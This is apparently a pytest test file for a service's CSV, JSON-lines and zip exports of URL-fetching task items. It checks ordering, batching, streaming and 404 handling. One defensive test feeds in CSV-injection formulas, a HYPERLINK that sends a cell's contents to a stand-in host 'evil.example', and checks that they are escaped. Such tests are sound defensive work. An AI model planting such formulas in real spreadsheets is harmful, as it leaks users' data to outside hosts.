"""Every line of a task as a file: all of them, in order, harmless to a spreadsheet, with nothing left open."""

import csv
import io
import json
import zipfile
from uuid import uuid4

import pytest

from services.api import item_files
from services.api.archive_answer import MOST_LINES
from services.api.queries.items import READ_AT_ONCE, every_item
from tests.api_world import NOON, open_cursors


def long_task(world, lines: int):
    return world.task([f"https://a.example/{line}" for line in range(lines)])


def rows(client, task_id) -> list[dict[str, str]]:
    answer = client.get(f"/url_tasks/{task_id}/items.csv")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="graymill-{str(task_id)[:8]}.csv"'
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True), newline="")))


def test_the_table_has_every_line_of_the_task_and_of_no_other_in_order(client, world):
    world.settled_task({"success": 3})
    task_id = world.settled_task({"success": 5, "duplicate": 2, "error": 4, "pending": 2})
    world.settled_task({"success": 3})
    table = rows(client, task_id)
    assert [int(row["line"]) for row in table] == list(range(1, 14))
    assert [row["outcome"] for row in table] == ["success"] * 5 + ["duplicate"] * 2 + ["error"] * 4 + ["pending"] * 2
    assert tuple(table[0]) == item_files.COLUMNS
    failed = table[7]
    assert (failed["reason"], failed["detail"], failed["md5"]) == ("http_4xx", "404 Not Found", "")
    assert failed["finished_at"] == "2024-05-31T12:00:08Z"


def test_no_line_is_left_out_or_repeated_where_one_batch_ends_and_the_next_begins(client, world):
    table = rows(client, long_task(world, 2 * READ_AT_ONCE + 1))
    assert [int(row["line"]) for row in table] == list(range(1, 2 * READ_AT_ONCE + 2))


def test_json_lines_say_the_same_as_the_list_of_items(client, world):
    task_id = world.settled_task({"success": 5, "error": 4, "pending": 2})
    earlier = {"outcome": "error", "reason": "dns", "finished_at": NOON, "round": 0}
    world.end(task_id, 2, "success", history=[earlier], round=1)
    answer = client.get(f"/url_tasks/{task_id}/items.jsonl")
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert lines == client.get(f"/url_tasks/{task_id}/items").json["items"]
    assert lines[1]["history"][0]["reason"] == "dns"


@pytest.mark.parametrize("beginning", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_the_table_is_a_formula_to_a_spreadsheet(client, world, beginning):
    formula = f'{beginning}HYPERLINK("https://evil.example?"&A1,"click")'
    task_id = world.task([formula, "https://a.example/=1"])
    world.end(task_id, 1, "error", detail=formula)
    first, second = rows(client, task_id)
    assert (first["url"], first["detail"]) == (f"'{formula}", f"'{formula}")
    assert second["url"] == "https://a.example/=1"
    line = client.get(f"/url_tasks/{task_id}/items.jsonl").text.splitlines()[0]
    assert json.loads(line)["url"] == formula


def test_commas_quotes_and_line_breaks_stay_within_their_cell(client, world):
    url = 'https://a.example/?a=1,2&b="x"\r\nhttps://b.example/'
    task_id = world.task([url, "https://a.example/"])
    assert [row["url"] for row in rows(client, task_id)] == [url, "https://a.example/"]


def test_who_goes_away_leaves_nothing_open_at_the_database(database, world):
    batches = every_item(database, long_task(world, READ_AT_ONCE + 1), seconds=4)
    assert len(next(batches)) == READ_AT_ONCE
    assert open_cursors(database) == 0
    batches.close()
    assert list(batches) == []


def test_a_file_is_written_bit_by_bit(client, world):
    chunks = client.get(f"/url_tasks/{long_task(world, READ_AT_ONCE + 1)}/items.csv").iter_encoded()
    assert next(chunks).startswith(b"line,url,outcome")
    assert next(chunks).count(b"\r\n") == READ_AT_ONCE
    assert next(chunks).count(b"\r\n") == 1


def test_a_task_that_is_not_there_is_404(client):
    for name in ("items.csv", "items.jsonl", "archive"):
        assert client.get(f"/url_tasks/{uuid4()}/{name}").status_code == 404
        assert client.get(f"/url_tasks/x/{name}").status_code == 404


def test_the_archive_has_each_image_of_the_task_once_and_every_line(client, world):
    md5 = world.image(b"one")
    task_id = world.task(["https://a.example/1", "https://a.example/2", "https://a.example/3"])
    world.end(task_id, 1, "success", md5=md5)
    world.end(task_id, 2, "duplicate", md5=md5)
    world.end(task_id, 3, "error")
    archive = zipfile.ZipFile(io.BytesIO(client.get(f"/url_tasks/{task_id}/archive").data))
    assert sorted(archive.namelist()) == [f"images/{md5}.png", "manifest.jsonl"]
    assert archive.read(f"images/{md5}.png") == b"one"
    assert len(archive.read("manifest.jsonl").splitlines()) == 3
    gray = zipfile.ZipFile(io.BytesIO(client.get(f"/url_tasks/{task_id}/archive?variant=gray").data))
    assert f"gray/{md5}.png" in gray.namelist()


def test_an_archive_of_too_long_a_task_is_refused_with_the_command_that_makes_one(client, world):
    task_id = long_task(world, MOST_LINES + 1)
    answer = client.get(f"/url_tasks/{task_id}/archive")
    assert answer.status_code == 422
    assert f"fetcher export --task {task_id}" in answer.json["detail"]
    world.end(task_id, 1, "success")
    page = client.get(f"/url_tasks/{task_id}?format=html").text
    assert f"fetcher export --task {task_id}" in page
    assert f"/url_tasks/{task_id}/archive" not in page
